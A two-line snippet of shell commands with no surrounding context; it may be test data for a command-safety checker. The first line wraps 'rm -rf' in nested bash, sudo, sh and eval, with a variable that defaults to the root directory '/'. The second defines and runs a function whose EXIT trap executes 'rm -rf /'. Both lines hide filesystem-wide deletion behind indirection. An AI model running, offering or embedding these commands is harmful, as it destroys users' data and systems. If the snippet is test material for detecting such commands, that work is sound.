bash -c "sudo sh -c 'eval \"rm -rf ${X:-/}\"'"
f() { trap 'rm -rf /' EXIT; [[ $a =~ $(id) ]]; }; f